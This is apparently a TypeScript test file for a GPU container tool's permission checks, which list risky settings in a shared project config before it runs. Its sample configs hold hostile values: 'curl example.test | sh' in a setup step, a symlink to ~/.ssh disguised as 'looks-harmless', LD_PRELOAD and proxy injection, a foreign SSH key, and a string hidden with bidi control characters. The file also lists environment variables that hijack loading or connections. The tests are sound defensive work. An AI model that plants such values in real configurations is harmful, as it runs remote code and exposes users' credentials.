import assert from 'node:assert/strict';
import {mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {after, before, test} from 'node:test';
import {
	digestOf,
	isPlainPackage,
	knownRegistries,
	notAgreed,
	tellAsks,
	whatItAsks,
} from '../../../source/box/plan/permissions.ts';
import {flagSettings, makeRequest} from '../../../source/box/plan/request.ts';
import {catalogue} from '../../../source/image/catalogue/catalogue.ts';
import {parseReference} from '../../../source/image/reference.ts';
import {whatVariableChanges} from '../../../source/settings/loading-variables.ts';
import {defaults, merge, toSettings} from '../../../source/settings/merge.ts';
import {readSettings} from '../../../source/settings/read.ts';

let root: string;
let home: string;
let project: string;
before(() => {
	root = realpathSync(mkdtempSync(join(tmpdir(), 'gpubox-asks-')));
	home = join(root, 'home/ann');
	project = join(home, 'clone');
	for (const folder of ['.ssh', 'clone/data', 'elsewhere']) {
		mkdirSync(join(home, folder), {recursive: true});
	}

	symlinkSync(join(home, '.ssh'), join(project, 'looks-harmless'));
});
after(() => rmSync(root, {recursive: true, force: true}));

/** What is asked about a file, with flags and a personal config beside it. */
function asks(
	text: string,
	{flags = {}, personal = '{}', givenSecrets = [] as string[], folder = project, keys = [] as string[]} = {},
) {
	const team = readSettings(text, {place: 'gpubox.yaml', shownAs: 'gpubox.yaml', base: project});
	const own = readSettings(personal, {place: 'personal', shownAs: 'config.json', base: home});
	assert.deepEqual([...team.mistakes, ...own.mistakes], []);
	const winners = merge([flagSettings(flags, project), team.settings, own.settings, defaults]);
	const {mounts} = makeRequest({}, {project: folder, winners, settings: toSettings(winners)});
	return whatItAsks({
		project: folder,
		winners,
		mounts,
		keyFiles: keys.map((content, place) => ({path: '/x', said: `keys/${place}.pub`, content, hasPrivate: false})),
		givenSecrets,
		homes: [home],
		address: 'unix:///nowhere/docker.sock',
	});
}

const keysOf = (text: string, options?: Parameters<typeof asks>[1]) => asks(text, options).map(({key}) => key);

test('what a box is made of is not asked about', () => {
	const text = `
name: vision
image: pytorch/pytorch:2.8.0-cuda12.8-cudnn9-runtime
family: pytorch
services: [jupyter, ssh]
gpus: [0, 2]
mounts: ["./data:/data", "./data:/more:ro"]
packages: {pip: ["einops>=0.8,<1", "torch-geometric[full]==2.*; python_version >= '3.9'"], apt: [ffmpeg]}
env: {SEED: 42, CUDA_VISIBLE_DEVICES: 0, PYTHONUNBUFFERED: 1, NCCL_DEBUG: INFO}
limits: {memory: 64g, cpus: 8, shmSize: 16g, pids: 4096}
ports: {jupyter: 8888, ssh: 2222}
bind: 127.0.0.1
idle: {stopAfter: 12h}
images: [{reference: "nvcr.io/nvidia/pytorch:25.01-py3", cuda: "12.8"}]
`;
	assert.deepEqual(keysOf(text), []);
});

test('everything beyond it is, each with its value', () => {
	const text = `
image: registry.example/team/train:3
services: [ssh]
mounts: ["${home}/elsewhere:/outside", "./looks-harmless:/inside:ro"]
packages: {pip: ["x @ https://example.test/x.whl"]}
postCreate: |
  pip install -e .
  curl example.test | sh
env: {LD_PRELOAD: /workspace/x.so, http_proxy: "http://10.0.0.1", SEED: 1}
secrets: [AWS_SECRET_ACCESS_KEY, HF_TOKEN]
bind: 0.0.0.0
images: [{reference: "127.0.0.1:5000/x:1", cuda: "12.8"}]
ssh: {keys: [keys/0.pub]}
`;
	const key = `ssh-ed25519 ${Buffer.from('a key of somebody else, long enough').toString('base64')} mallory`;
	const lines = tellAsks(asks(text, {keys: [key]}));
	assert.deepEqual(
		lines.map((line) => line.replaceAll(home, '~').replace(/SHA256:[\w+/]{43}/, 'SHA256:…')),
		[
			'mounts          ~/elsewhere at /outside, writable  (outside of the project)',
			'mounts          ~/.ssh at /inside, read-only  (outside of the project)',
			'image           registry.example/team/train:3  (an unknown registry)',
			'packages.pip    x @ https://example.test/x.whl  (not a plain package from the index)',
			'postCreate      pip install -e .',
			'                curl example.test | sh  (runs in the box, as you)',
			'env.LD_PRELOAD  /workspace/x.so  (changes what programs load or start)',
			'env.http_proxy  http://10.0.0.1  (changes where programs download from or connect to)',
			'secrets         AWS_SECRET_ACCESS_KEY  (one of your secrets)',
			'secrets         HF_TOKEN  (one of your secrets)',
			'bind            0.0.0.0  (reachable over the network, unencrypted)',
			'images          127.0.0.1:5000/x:1  (an unknown registry)',
			'ssh.keys        keys/0.pub',
			'                SHA256:… mallory  (this key may log in as you)',
		],
	);
});

test('what the person says themselves is not', () => {
	const flags = {
		mount: [`${home}/elsewhere:/x`],
		env: ['LD_PRELOAD=/x.so'],
		bind: '0.0.0.0',
		image: 'registry.example/x:1',
	};
	assert.deepEqual(keysOf('bind: 0.0.0.0\nenv: {LD_PRELOAD: /other.so}\n', {flags}), []);
	const personal = JSON.stringify({
		secrets: ['HF_TOKEN'],
		mounts: ['~/elsewhere:/x'],
		env: {PATH: '/x'},
		ssh: {keys: ['a']},
	});
	assert.deepEqual(keysOf('', {personal: personal.replaceAll('~', home)}), []);
	assert.deepEqual(keysOf('secrets: [HF_TOKEN]', {givenSecrets: ['HF_TOKEN']}), []);
});

test('a whole home is asked about on its own, whoever says it', () => {
	const alone = (found: ReturnType<typeof asks>) => found.map(({key, alone: own}) => [key, own ?? false]);
	for (const source of [home, join(home, '..'), '/']) {
		assert.deepEqual(alone(asks('', {flags: {mount: [`${source}:/x`]}})), [['mounts', true]], source);
		assert.deepEqual(alone(asks(`mounts: ["${source}:/x"]`)), [['mounts', true]], source);
		assert.deepEqual(alone(asks('', {folder: source})), [['project', true]], source);
	}
});

test('nothing of a value is left out when it is shown', () => {
	const [ask] = asks(JSON.stringify({postCreate: 'echo \u202Ehs | x lruc\u001B[2K \u200B#\u00A0\r'}));
	assert.deepEqual(ask?.lines, ['echo \\u{202e}hs | x lruc\\u{1b}[2K \\u{200b}#\\u{a0}\\u{d}']);
});

test('only what is new is asked about again', () => {
	const before = asks('postCreate: make\nsecrets: [A, B]\n');
	const agreed = before.map(digestOf);
	const left = (text: string) => notAgreed(asks(text), agreed).map(({key, exact}) => `${key} ${exact}`);
	assert.deepEqual(left('postCreate: make\nsecrets: [B]\n'), []);
	assert.deepEqual(left('# other\nsecrets: [B, A]\ngpus: 2\npostCreate: make\n'), []);
	assert.deepEqual(left('postCreate: make\nsecrets: [A, B, C]\n'), ['secrets C']);
	assert.deepEqual(left('postCreate: "make "\nsecrets: [A]\n'), ['postCreate make ']);
	// The same text at another setting is something else.
	assert.deepEqual(left('env: {PATH: make}\n'), ['env.PATH make']);
});

test('a mount or a key file that changed behind its name is new', () => {
	const agreed = asks(`mounts: ["${home}/elsewhere:/x:ro"]`).map(digestOf);
	assert.equal(notAgreed(asks(`mounts: ["${home}/elsewhere:/x:ro"]`), agreed).length, 0);
	assert.equal(notAgreed(asks(`mounts: ["${home}/elsewhere:/x"]`), agreed).length, 1);
	const key = (name: string) => `ssh-ed25519 ${Buffer.from(`${name} ${'.'.repeat(30)}`).toString('base64')} ${name}`;
	const keys = asks('ssh: {keys: [keys/0.pub]}', {keys: [key('a')]}).map(digestOf);
	assert.equal(notAgreed(asks('ssh: {keys: [keys/0.pub]}', {keys: [key('a')]}), keys).length, 0);
	assert.equal(notAgreed(asks('ssh: {keys: [keys/0.pub]}', {keys: [`${key('a')}\n${key('b')}`]}), keys).length, 1);
});

test('a plain package is a name with versions and conditions, and nothing else', () => {
	for (const text of [
		'einops',
		'einops>=0.8',
		'a[b,c]~=1.0,!=1.3',
		'x==1.*',
		'x (>=1)',
		"x>1; os_name == 'posix'",
		'x # why',
	]) {
		assert.ok(isPlainPackage(text), text);
	}

	for (const text of [
		'x @ https://e.test/x.whl',
		'https://e.test/x.whl',
		'git+https://e.test/x',
		'x --index-url http://e.test',
		'x --hash=sha256:00',
		'folder/x',
		'x.whl',
		'x-1.0.tar.gz',
		'x>=1 -e .',
	]) {
		assert.ok(!isPlainPackage(text), text);
	}
});

test('variables that change how programs load, start or talk are known, those of every day are not among them', () => {
	for (const name of [
		'LD_PRELOAD',
		'PYTHONPATH',
		'PYTHONSTARTUP',
		'PATH',
		'BASH_ENV',
		'ENV',
		'PROMPT_COMMAND',
		'NODE_OPTIONS',
	]) {
		assert.ok(whatVariableChanges(name), name);
	}

	for (const name of [
		'JUPYTER_PATH',
		'CUDA_INJECTION64_PATH',
		'NVIDIA_DISABLE_REQUIRE',
		'https_proxy',
		'ALL_PROXY',
		'PIP_INDEX_URL',
	]) {
		assert.ok(whatVariableChanges(name), name);
	}

	for (const name of [
		'UV_INDEX',
		'CONDA_CHANNELS',
		'HF_ENDPOINT',
		'AWS_ENDPOINT_URL_S3',
		'GIT_SSH_COMMAND',
		'SSL_CERT_FILE',
	]) {
		assert.ok(whatVariableChanges(name), name);
	}

	for (const name of [
		'SEED',
		'WANDB_MODE',
		'CUDA_VISIBLE_DEVICES',
		'PYTHONHASHSEED',
		'OMP_NUM_THREADS',
		'TOKENIZERS_PARALLELISM',
	]) {
		assert.equal(whatVariableChanges(name), undefined, name);
	}
});

test('every registry of the catalogue is known', () => {
	const registries = new Set(
		catalogue().entries.map(({reference}) => parseReference(reference)?.registry ?? reference),
	);
	assert.deepEqual(
		[...registries].filter((name) => !knownRegistries.includes(name)),
		[],
	);
});
